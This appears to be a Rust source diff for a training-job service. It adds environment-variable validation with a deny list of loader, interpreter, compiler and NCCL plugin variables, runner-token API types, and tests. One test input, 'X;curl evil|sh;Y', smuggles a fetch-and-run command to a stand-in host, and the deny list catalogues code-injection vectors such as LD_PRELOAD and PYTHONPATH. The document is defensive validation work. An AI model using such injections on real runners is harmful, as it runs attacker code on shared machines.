@@ -179,6 +179,133 @@ impl Workload {
     }
 }
 
+/// Most variables a job's `env` may hold, and the longest name and value.
+pub const MAX_ENV_VARS: usize = 64;
+pub const MAX_ENV_NAME: usize = 128;
+pub const MAX_ENV_VALUE: usize = 4096;
+
+/// Variables a job may never set, and why: they decide which code runs (loaders, interpreters,
+/// compilers, plug-ins), which GPUs the job sees, or what the runner itself sets.
+const DENIED_ENV: &[(&str, &str)] = &[
+    ("PATH", "it decides which programs run"),
+    (
+        "HOME",
+        "it decides which user files Python and the compilers load",
+    ),
+    ("SHELL", "it decides which programs run"),
+    ("BASH_ENV", "bash runs the file it names"),
+    ("ENV", "sh runs the file it names"),
+    ("IFS", "it changes how scripts split words"),
+    ("GCONV_PATH", "glibc loads modules from it"),
+    ("GLIBC_TUNABLES", "it changes the C library's behaviour"),
+    ("CC", "DeepSpeed's op builder runs the compiler it names"),
+    ("CXX", "DeepSpeed's op builder runs the compiler it names"),
+    ("NVCC", "DeepSpeed's op builder runs the compiler it names"),
+    (
+        "CUDA_HOME",
+        "DeepSpeed's op builder runs the compiler under it",
+    ),
+    ("CFLAGS", "compiler flags can load plug-ins"),
+    ("CXXFLAGS", "compiler flags can load plug-ins"),
+    ("LDFLAGS", "linker flags can load plug-ins"),
+    ("TORCH_EXTENSIONS_DIR", "torch loads compiled ops from it"),
+    (
+        "CUDA_VISIBLE_DEVICES",
+        "the runner decides which GPUs a job sees",
+    ),
+    (
+        "HIP_VISIBLE_DEVICES",
+        "the runner decides which GPUs a job sees",
+    ),
+    (
+        "ROCR_VISIBLE_DEVICES",
+        "the runner decides which GPUs a job sees",
+    ),
+    (
+        "NVIDIA_VISIBLE_DEVICES",
+        "the runner decides which GPUs a job sees",
+    ),
+    ("MASTER_ADDR", "the runner sets the rendezvous"),
+    ("MASTER_PORT", "the runner sets the rendezvous"),
+    ("RANK", "the runner sets the ranks"),
+    ("LOCAL_RANK", "the runner sets the ranks"),
+    ("WORLD_SIZE", "the runner sets the ranks"),
+    ("NCCL_NET_PLUGIN", "NCCL loads the library it names"),
+    ("NCCL_TUNER_PLUGIN", "NCCL loads the library it names"),
+    ("NCCL_PROFILER_PLUGIN", "NCCL loads the library it names"),
+    ("NCCL_DEBUG_FILE", "NCCL writes to the file it names"),
+    ("NCCL_TOPO_FILE", "NCCL reads the file it names"),
+    ("NCCL_TOPO_DUMP_FILE", "NCCL writes to the file it names"),
+    ("NCCL_GRAPH_FILE", "NCCL reads the file it names"),
+    ("NCCL_GRAPH_DUMP_FILE", "NCCL writes to the file it names"),
+    ("NCCL_CONF_FILE", "NCCL reads the file it names"),
+];
+
+/// Name prefixes a job may never set (loader, interpreter and runner variables).
+const DENIED_ENV_PREFIXES: &[(&str, &str)] = &[
+    ("LD_", "the dynamic loader reads it"),
+    ("DYLD_", "the dynamic loader reads it"),
+    ("PYTHON", "it decides which code Python loads"),
+    ("PERL", "it decides which code Perl loads"),
+    ("RUBY", "it decides which code Ruby loads"),
+    ("NODE_", "it decides which code Node loads"),
+    ("MALLOC_", "it changes the C library's behaviour"),
+    ("DS_STUDIO_", "the runner's own settings"),
+    ("SLURM_", "Slurm's own settings"),
+    ("SBATCH_", "Slurm's own settings"),
+    ("SRUN_", "Slurm's own settings"),
+];
+
+/// Why a job may not set the variable `name`, if it may not: a name must match
+/// `^[A-Za-z_][A-Za-z0-9_]*$` (at most 128 characters) and be on no deny list.
+pub fn env_name_refusal(name: &str) -> Option<String> {
+    let shaped = name.len() <= MAX_ENV_NAME
+        && name
+            .chars()
+            .next()
+            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+    if !shaped {
+        return Some(format!(
+            "env: `{}` is not a variable name (letters, digits and `_`, not starting with a digit, at most {MAX_ENV_NAME} characters)",
+            name.escape_debug()
+        ));
+    }
+    let upper = name.to_ascii_uppercase();
+    let why = DENIED_ENV
+        .iter()
+        .find(|(n, _)| *n == upper)
+        .or_else(|| {
+            DENIED_ENV_PREFIXES
+                .iter()
+                .find(|(p, _)| upper.starts_with(p))
+        })
+        .map(|(_, why)| *why)?;
+    Some(format!("env: a job may not set `{name}`: {why}"))
+}
+
+/// Checks a job's `env`: names (see [`env_name_refusal`]), at most [`MAX_ENV_VARS`] variables,
+/// values of at most [`MAX_ENV_VALUE`] bytes without NUL.
+pub fn check_env(env: &BTreeMap<String, String>) -> Result<(), String> {
+    if env.len() > MAX_ENV_VARS {
+        return Err(format!(
+            "env: {} variables; a job may set at most {MAX_ENV_VARS}",
+            env.len()
+        ));
+    }
+    for (k, v) in env {
+        if let Some(why) = env_name_refusal(k) {
+            return Err(why);
+        }
+        if v.len() > MAX_ENV_VALUE || v.contains('\0') {
+            return Err(format!(
+                "env: the value of `{k}` must be at most {MAX_ENV_VALUE} bytes, without NUL"
+            ));
+        }
+    }
+    Ok(())
+}
+
 /// The context a job's config is checked in: the version's own (accelerator, parallel sizes),
 /// with the job's world size (nodes × GPUs), the config given as a file (the runner passes
 /// `--deepspeed_config PATH`), and for the built-in workload the plain DeepSpeed launcher
@@ -223,9 +350,10 @@ pub struct JobCreate {
     /// Extra environment variables for the training processes.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub env: Option<BTreeMap<String, String>>,
-    /// Wall-clock limit in seconds; the job is stopped and fails after it (default none).
+    /// Wall-clock limit in seconds (at most 30 days); the job is stopped and fails after it
+    /// (default none).
     #[serde(default, skip_serializing_if = "Option::is_none")]
-    #[cfg_attr(feature = "openapi", schema(minimum = 1))]
+    #[cfg_attr(feature = "openapi", schema(minimum = 1, maximum = 2592000))]
     pub time_limit_s: Option<u64>,
 }
 
@@ -379,6 +507,47 @@ pub struct Runner {
     pub last_seen: String,
     /// Jobs it is running now.
     pub running: Vec<i64>,
+    /// The team whose jobs it takes (from its runner token); none: every team's.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub team_id: Option<i64>,
+}
+
+/// `POST /api/v1/runner-tokens` (server admins): a credential for one runner.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[cfg_attr(feature = "openapi", derive(ToSchema))]
+#[serde(deny_unknown_fields)]
+pub struct RunnerTokenCreate {
+    /// The runner name it registers as (1-64 letters, digits, `-`, `_`, `.`).
+    #[cfg_attr(feature = "openapi", schema(example = "gpu-a"))]
+    pub runner: String,
+    /// Only this team's jobs; leave out for every team's.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub team_id: Option<i64>,
+}
+
+/// A runner token as listed (the token itself is never stored).
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[cfg_attr(feature = "openapi", derive(ToSchema))]
+pub struct RunnerToken {
+    pub id: i64,
+    pub runner: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub team_id: Option<i64>,
+    /// The first characters of the token, to recognise it.
+    pub prefix: String,
+    pub created_at: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub last_used_at: Option<String>,
+    pub revoked: bool,
+}
+
+/// A new runner token: `token` is shown this once.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+#[cfg_attr(feature = "openapi", derive(ToSchema))]
+pub struct RunnerTokenCreated {
+    pub token: String,
+    #[serde(flatten)]
+    pub info: RunnerToken,
 }
 
 /// `POST /api/v1/runners/{id}/heartbeat`.
@@ -478,6 +647,48 @@ pub struct JobStateUpdate {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn job_env_names_are_shaped_and_loader_path_and_device_variables_are_refused() {
+        for ok in [
+            "NCCL_DEBUG",
+            "OMP_NUM_THREADS",
+            "_X",
+            "hf_token",
+            "TORCH_LOGS",
+        ] {
+            assert_eq!(env_name_refusal(ok), None, "{ok}");
+        }
+        for bad in ["", "1X", "X;curl evil|sh;Y", "A-B", "A=B", "X\nY", "É"] {
+            let why = env_name_refusal(bad).expect(bad);
+            assert!(why.contains("is not a variable name"), "{bad}: {why}");
+        }
+        for denied in [
+            "LD_PRELOAD",
+            "ld_library_path",
+            "PYTHONPATH",
+            "PYTHONSTARTUP",
+            "PATH",
+            "CUDA_VISIBLE_DEVICES",
+            "NCCL_NET_PLUGIN",
+            "DS_STUDIO_ADMIN_TOKEN",
+            "BASH_ENV",
+            "CC",
+        ] {
+            let why = env_name_refusal(denied).expect(denied);
+            assert!(
+                why.contains(&format!("may not set `{denied}`")),
+                "{denied}: {why}"
+            );
+        }
+        let many: BTreeMap<String, String> =
+            (0..65).map(|i| (format!("V{i}"), "1".into())).collect();
+        assert!(check_env(&many).unwrap_err().contains("at most 64"));
+        let nul = BTreeMap::from([("X".to_string(), "a\0b".to_string())]);
+        assert!(check_env(&nul).unwrap_err().contains("`X`"));
+        let ok = BTreeMap::from([("NCCL_DEBUG".to_string(), "INFO it's $(x)".to_string())]);
+        assert!(check_env(&ok).is_ok());
+    }
 
     #[test]
     fn workloads_are_checked_with_messages_that_name_the_field() {
